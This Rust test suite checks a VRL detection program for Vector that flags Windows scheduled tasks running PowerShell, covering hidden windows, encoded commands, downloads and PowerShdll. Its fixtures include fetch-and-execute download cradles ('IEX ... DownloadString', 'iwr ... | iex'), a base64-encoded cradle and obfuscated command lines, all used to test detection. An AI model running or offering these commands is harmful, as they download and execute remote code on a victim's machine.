//! `config_examples/vector/fallback.vrl`, compiled by the version of VRL that Vector has, and run.
use serde_json::{Value as Json, json};
use std::path::Path;
use vrl::compiler::runtime::Runtime;
use vrl::compiler::{Program, TargetValue, TimeZone, compile};
use vrl::diagnostic::Formatter;
use vrl::value::{Secrets, Value};

fn program() -> (String, Program) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../config_examples/vector/fallback.vrl");
    let source = std::fs::read_to_string(path).unwrap();
    let result = compile(&source, &vrl::stdlib::all());
    let compiled = result.unwrap_or_else(|errors| panic!("{}", Formatter::new(&source, errors)));
    assert!(compiled.warnings.is_empty(), "{}", Formatter::new(&source, compiled.warnings));
    (source, compiled.program)
}

/// Runs the program on an event. It fails if the program ends in an error or with `abort`: Vector would drop the event,
/// or lose its tag.
fn run(event: &Json) -> Json {
    let (_, program) = program();
    let mut target = TargetValue {
        value: Value::from(event.clone()),
        metadata: Value::Object(Default::default()),
        secrets: Secrets::default(),
    };
    Runtime::default()
        .resolve(&mut target, &program, &TimeZone::default())
        .unwrap_or_else(|error| panic!("{error:?}"));
    serde_json::to_value(&target.value).unwrap()
}

/// A task with one action, as schtasks.exe defines it.
fn task(command: &str, arguments: &str) -> String {
    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;");
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" \
         xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers/><Actions Context=\"Author\"><Exec>\
         <Command>{}</Command><Arguments>{}</Arguments></Exec></Actions></Task>",
        escape(command),
        escape(arguments)
    )
}

/// An event as Vector's windows_event_log writes it.
fn event(id: u32, content: &str) -> Json {
    let field = if id == 4702 { "TaskContentNew" } else { "TaskContent" };
    json!({
        "event_id": id, "record_id": 7, "channel": "Security", "computer": "ws-0217.northwind.example",
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "event_data": {"TaskName": "\\Updater", "SubjectUserName": "alice", field: content},
    })
}

/// Base64 of UTF-16LE, as PowerShell's -EncodedCommand wants it.
fn encoded(script: &str) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let group =
            chunk.iter().fold(0_u32, |group, byte| group << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for digit in 0..=chunk.len() {
            out.push(DIGITS[(group >> (18 - 6 * digit) & 63) as usize] as char);
        }
    }
    while out.len() % 4 != 0 {
        out.push('=');
    }
    out
}

fn rules(out: &Json) -> Vec<&str> {
    out["schtag"]["rules"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|rule| rule["title"].as_str().unwrap())
        .collect()
}

const POWERSHELL: &str = "Scheduled task runs PowerShell";
const HIDDEN: &str = "Scheduled task runs PowerShell in a hidden window";
const ENCODED: &str = "Scheduled task runs an encoded PowerShell command";
const DOWNLOADS: &str = "Scheduled task runs PowerShell that downloads";
const POWERSHDLL: &str = "Scheduled task runs PowerShdll (PowerShell without powershell.exe)";

#[test]
fn each_rule_matches_what_it_is_for() {
    let cradle = encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')");
    for (command, arguments, severity, expected) in [
        ("powershell.exe", r"-File C:\Scripts\backup.ps1", "medium", vec![POWERSHELL]),
        (r"C:\Scripts\backup.ps1", "", "medium", vec![POWERSHELL]),
        ("PowerShell", "-W Hidden -c Get-Date", "medium", vec![HIDDEN, POWERSHELL]),
        ("powershell", "-windowstyle 1 -c Get-Date", "medium", vec![HIDDEN, POWERSHELL]),
        ("powershell.exe", &format!("-nop -enc {cradle}"), "high", vec![ENCODED, DOWNLOADS, POWERSHELL]),
        (
            "powershell.exe",
            &format!("/EncodedCommand {}", encoded("Get-Process")),
            "high",
            vec![ENCODED, POWERSHELL],
        ),
        (
            "powershell.exe",
            &format!("\u{2013}e {}", encoded("Get-Process")),
            "high",
            vec![ENCODED, POWERSHELL],
        ),
        ("cmd.exe", "/c p^ower\"shell\" -c Get-Date", "medium", vec![POWERSHELL]),
        ("pwsh", "-c iwr http://203.0.113.9/a | iex", "high", vec![DOWNLOADS, POWERSHELL]),
        ("rundll32", "PowerShdll.dll,main . { Get-Date }", "critical", vec![POWERSHDLL]),
        (
            "rundll32",
            "PowerShdll.dll,main iwr http://203.0.113.9/a",
            "critical",
            vec![POWERSHDLL, DOWNLOADS],
        ),
        ("regsvr32.exe", r"/s /u C:\Temp\PowerShdll.dll", "critical", vec![POWERSHDLL]),
    ] {
        for id in [4698, 4702] {
            let before = event(id, &task(command, arguments));
            let out = run(&before);
            assert_eq!(rules(&out), expected, "{command} {arguments}");
            assert_eq!(out["schtag"]["verdict"], "alert");
            assert_eq!(out["schtag"]["severity"], severity, "{command} {arguments}");
            assert_eq!(out["schtag"]["action"], if id == 4698 { "created" } else { "updated" });
            // As in schtag's own tags: the most severe first, and in the title.
            assert_eq!(out["schtag"]["title"], format!("{}: \\Updater", expected[0]), "{out}");
            let mut rest = out.clone();
            rest.as_object_mut().unwrap().remove("schtag");
            assert_eq!(rest, before, "nothing but the tag is added");
        }
    }
    let hosted = run(&event(4698, &task("rundll32", "PowerShdll.dll,main . { Get-Date }")));
    assert_eq!(hosted["schtag"]["techniques"], json!(["T1218", "T1059.001", "T1053.005"]));
    let out = run(&event(4698, &task("powershell", &format!("-e {cradle}"))));
    assert!(out["schtag"]["task"]["decoded"][0].as_str().unwrap().contains("DownloadString"), "{out}");
    assert_eq!(out["schtag"]["techniques"], json!(["T1027.010", "T1105", "T1059.001", "T1053.005"]));
}

#[test]
fn several_actions_are_all_read() {
    let two = task("notepad.exe", "")
        .replace("</Actions>", "<Exec><Command>powershell.exe</Command></Exec></Actions>");
    assert_eq!(rules(&run(&event(4698, &two))), [POWERSHELL]);
}

#[test]
fn ordinary_tasks_and_other_events_are_left_alone() {
    for event in [
        event(4698, &task(r"C:\Program Files\Contoso\update.exe", "/silent")),
        event(4698, &task("rundll32.exe", "shell32.dll,Control_RunDLL")),
        event(4699, ""),
        event(4624, &task("powershell.exe", "")),
        json!({"message": "powershell.exe -enc AAAA"}),
        json!({"event_id": "4624"}),
        json!({"event_id": null, "event_data": 7}),
    ] {
        assert_eq!(run(&event), event);
    }
}

#[test]
fn what_cannot_be_read_says_so() {
    let whole = task(r"C:\Program Files\Contoso\update.exe", "");
    for content in ["", "no XML", &whole[..whole.len() - 20], "<!DOCTYPE a [<!ENTITY b \"c\">]><Task/>"] {
        let out = run(&event(4698, content));
        assert_eq!(out["schtag"]["verdict"], "unreadable", "{content}");
    }
    // What is cut is still searched as text.
    let malicious = task("powershell.exe", "-w hidden");
    let out = run(&event(4698, &malicious[..malicious.len() - 20]));
    assert_eq!(rules(&out), [HIDDEN, POWERSHELL]);
    assert_eq!(out["schtag"]["notes"].as_array().unwrap().len(), 2);
}

#[test]
fn odd_values_stop_nothing() {
    let odd = [
        json!(null),
        json!(7),
        json!([]),
        json!({}),
        json!("x".repeat(100_000)),
        json!(task("powershell", "-enc AAAAAAAAAAAAAAAAA=A=AAAA")),
        json!(task("powershell", &format!("-enc {}", "A".repeat(101)))),
    ];
    for content in odd {
        for id in [json!(4698), json!("4698"), json!(4702.0)] {
            let event = json!({"event_id": id, "event_data": {"TaskContent": content, "TaskName": ["x"]}});
            assert!(run(&event)["event_data"].is_object());
        }
    }
    assert!(run(&json!({"event_id": 4698}))["schtag"]["notes"].is_array());
    // A tag that came with the event is not ours.
    let forged = json!({"event_id": 4624, "schtag": {"verdict": "alert"}});
    assert_eq!(run(&forged), json!({"event_id": 4624}));
}

#[test]
fn its_rules_are_rules_of_the_pack() {
    let (source, _) = program();
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../plugin/rules");
    let mut pack = String::new();
    for folder in std::fs::read_dir(rules).unwrap() {
        if let Ok(rule) = std::fs::read_to_string(folder.unwrap().path().join("rule.yml")) {
            pack.push_str(&rule);
        }
    }
    let ids: Vec<&str> = source.split("\"id\": \"").skip(1).map(|rest| &rest[..36]).collect();
    assert_eq!(ids.len(), 5);
    for id in ids {
        assert!(pack.contains(&format!("id: {id}\n")), "{id}");
    }
    for title in [POWERSHELL, HIDDEN, ENCODED, DOWNLOADS, POWERSHDLL] {
        assert!(pack.contains(&format!("title: {title}\n")), "{title}");
    }
    assert!(source.contains("5 of its rules"));
}
